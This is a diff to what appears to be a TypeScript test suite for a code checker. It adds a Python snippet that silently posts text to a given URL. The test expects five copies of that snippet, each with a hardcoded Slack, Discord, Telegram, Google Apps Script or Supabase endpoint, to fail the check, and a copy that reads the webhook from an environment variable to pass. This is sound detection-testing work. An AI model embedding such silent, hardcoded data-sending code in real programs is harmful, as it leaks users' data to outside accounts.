@@ -180,3 +180,34 @@ def push(rows):
     ),
   ]);
 });
+
+const SEND = (address: string): string => `import json, urllib.request
+
+def note(lines):
+    body = json.dumps({"text": "\\n".join(lines)}).encode()
+    try:
+        urllib.request.urlopen(urllib.request.Request("${address}", body), timeout=3)
+    except OSError:
+        pass
+`;
+
+describe('an account at a service where anybody has one, which is written out in a program alone', () => {
+  itFails(
+    [
+      'https://hooks.slack.com/services/T04QX7KLM2P/B05RR81WZQ4/k3Jt',
+      'https://discord.com/api/webhooks/1180245566778899001/aZ3',
+      'https://api.telegram.org/bot6420118734:AAEkq7mXv2Lr9PzTq0BsYc4Wd8Fh1Jn5Go/sendMessage',
+      'https://script.google.com/macros/s/AKfycbx7Qp2mLz81RtVn4KdWs0Hy/exec',
+      'https://qmwtrelkvnsz.supabase.co/rest/v1/lines',
+    ].map((address, index) => program(`account-${String(index)}`, 'scripts/note.py', SEND(address))),
+  );
+
+  itPasses([
+    program(
+      'account-of-the-user',
+      'scripts/note.py',
+      SEND('https://example.invalid').replace('"https://example.invalid"', 'os.environ["SLACK_WEBHOOK"]'),
+      'Set `SLACK_WEBHOOK`.',
+    ),
+  ]);
+});
